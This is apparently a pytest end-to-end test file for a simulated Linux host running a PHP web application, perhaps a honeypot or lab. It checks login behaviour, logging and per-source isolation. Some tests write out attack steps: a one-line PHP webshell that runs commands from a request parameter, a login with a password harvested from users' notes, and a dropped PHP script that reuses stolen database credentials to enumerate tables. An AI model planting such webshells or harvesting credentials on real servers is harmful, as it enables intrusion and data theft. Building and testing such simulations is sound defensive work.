"""The company's application on the web port: its pages are the PHP on the disk, its rows the database's, its shell the visitor's own."""

from __future__ import annotations

import http.client
import re
from collections.abc import Iterator

import pytest

from tests.e2e.house import House

SOURCE = "127.0.0.31"


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory, openssh: None) -> Iterator[House]:
    one = House(tmp_path_factory.mktemp("house") / "data", "--http", "127.0.0.1:0")
    one.start()
    if not one.sh("ls /var/www | grep -v html || true"):
        one.stop()
        pytest.skip("this image has no packages, so nobody runs an application on it")
    try:
        yield one
    finally:
        one.stop()


@pytest.fixture(scope="module")
def place(house: House) -> tuple[str, str]:
    """The application's name, and its directory."""
    text = house.sh("cat /etc/nginx/sites-enabled/*", source=SOURCE)
    names = re.findall(r"^[^#\n]*\bserver_name\s+([\w-]+\.[\w.-]+)", text, re.MULTILINE)  # each author writes it in his own way
    roots = re.findall(r"^[^#\n]*\broot\s+(/var/www/(?!html)[^\s;]+)", text, re.MULTILINE)
    assert len(names) == len(roots) == 1
    return names[0], roots[0]


class Browser:
    """A client that keeps its cookies."""

    def __init__(self, house: House, host: str) -> None:
        self.house, self.host, self.cookies = house, host, {}  # type: ignore[var-annotated]

    def ask(self, path: str, form: str | None = None, source: str = SOURCE) -> tuple[http.client.HTTPResponse, str]:
        address, _, port = self.house.ready["http"].rpartition(":")
        client = http.client.HTTPConnection(address, int(port), timeout=30, source_address=(source, 0))
        headers = {"Host": self.host, "Cookie": "; ".join(f"{name}={value}" for name, value in self.cookies.items())}
        if form is not None:
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        try:
            client.request("GET" if form is None else "POST", path, body=form, headers=headers)
            answer = client.getresponse()
            text = answer.read().decode()
            for value in answer.headers.get_all("Set-Cookie") or []:
                name, _, rest = value.partition("=")
                self.cookies[name] = rest.partition(";")[0]
            return answer, text
        finally:
            client.close()


def test_who_is_not_in_is_sent_to_the_login(house: House, place: tuple[str, str]) -> None:
    browser = Browser(house, place[0])
    answer, text = browser.ask("/")
    assert (answer.status, answer.reason, text) == (302, "Found", "")
    assert re.fullmatch(r"[a-z_/]+\.php\?back=%2F", answer.headers["Location"])
    answer, text = browser.ask("/" + answer.headers["Location"])
    assert answer.status == 200 and re.search(r'(?i)<form method="?post"?[^>]*>', text) and re.search(r'(?i)type="?password"?', text)
    assert answer.headers["Content-Type"] == "text/html; charset=UTF-8"
    assert browser.ask("/")[0].headers.get("Set-Cookie") is None  # the session is known by now


def test_a_wrong_password_is_refused_and_noted(house: House, place: tuple[str, str]) -> None:
    browser = Browser(house, place[0])
    login = browser.ask("/")[0].headers["Location"].partition("?")[0]
    answer, text = browser.ask(f"/{login}", "name=admin&password=guess")
    assert answer.status == 200 and re.search(r'(?i)<p class="?\w+"?>([^<]*(password|login)[^<]*|that did not work)\.</p>', text)
    noted = house.sh(f"grep -rh '{SOURCE}' {place[1]} | tail -n 1", source=SOURCE)
    assert "admin" in noted and re.match(r"\[?\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", noted)


def test_the_password_that_somebody_noted_opens_it(house: House, place: tuple[str, str]) -> None:
    notes = house.sh(f"grep -rh -A3 '^{place[0]}' /home /root 2>/dev/null || true", source=SOURCE)
    found = re.search(r"user\s+admin\s+pw\s+(\S+)", notes)
    if found is None:
        pytest.skip("nobody of this company noted the password of the application")
    browser = Browser(house, place[0])
    login = browser.ask("/")[0].headers["Location"].partition("?")[0]
    answer, _ = browser.ask(f"/{login}", f"name=admin&password={found[1]}")
    assert (answer.status, answer.headers["Location"]) == (302, "index.php")
    answer, text = browser.ask("/index.php")
    assert answer.status == 200 and "logout.php" in text


def test_the_repository_and_the_settings_are_not_given_away(house: House, place: tuple[str, str]) -> None:
    browser = Browser(house, place[0])
    assert browser.ask("/.git/config")[0].status == 403
    path = house.sh(f"cd {place[1]} && grep -rlE \"'[A-Za-z2-9]{{16}}'\" --include=*.php . | head -n 1", source=SOURCE).strip()[1:]
    answer, text = browser.ask(path)
    assert (answer.status, text) in [(200, ""), (403, text)]  # it is run, not shown, or not even that


def test_a_webshell_acts_as_www_data_in_the_layer_of_who_left_it(house: House, place: tuple[str, str]) -> None:
    name, root = place
    house.sh(f"echo '<?php echo shell_exec($_REQUEST[\"c\"]);' > {root}/s.php", source=SOURCE)
    browser = Browser(house, name)
    answer, text = browser.ask("/s.php?c=id%3Bpwd%3Btouch+/tmp/left")
    assert (answer.status, text) == (200, f"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n{root}\n")
    assert house.sh("stat -c %U /tmp/left", source=SOURCE) == "www-data\n"
    assert browser.ask("/s.php", source="127.0.0.32")[0].status == 404
    assert house.ssh("test -e /tmp/left", source="127.0.0.32").returncode == 1


def test_a_script_reaches_the_database_with_the_settings_of_the_application(house: House, place: tuple[str, str]) -> None:
    name, root = place
    settings = house.sh(f"grep -rhiE \"user|'[A-Za-z2-9]{{16}}'\" {root} --include=*.php", source=SOURCE)
    password = re.search(r"'([A-Za-z2-9]{16})'", settings)
    users = re.findall(r"(?i)user['\"\]]*\s*(?:=>|=|,)\s*'([^']+)'", settings)
    assert password and users
    tries = ", ".join(f"'{user}'" for user in dict.fromkeys(users))
    script = (
        f"<?php foreach ([{tries}] as $user) {{ try {{ $db = new PDO('mysql:host=localhost', $user, '{password[1]}'); break; }}"
        "catch (PDOException $e) { echo $e->getMessage(), ' '; } }"
        "foreach ($db->query('SHOW TABLES')->fetchAll(PDO::FETCH_COLUMN) as $t) echo $t, ' '; "
        "echo $db->query('SELECT COUNT(*) FROM users')->fetchColumn() > 3 ? 'many' : 'few';"
    )
    house.sh(f"cat > {root}/d.php", source=SOURCE, stdin=script)
    answer, text = Browser(house, name).ask("/d.php")
    assert answer.status == 200
    assert "users" in text and text.endswith("many")
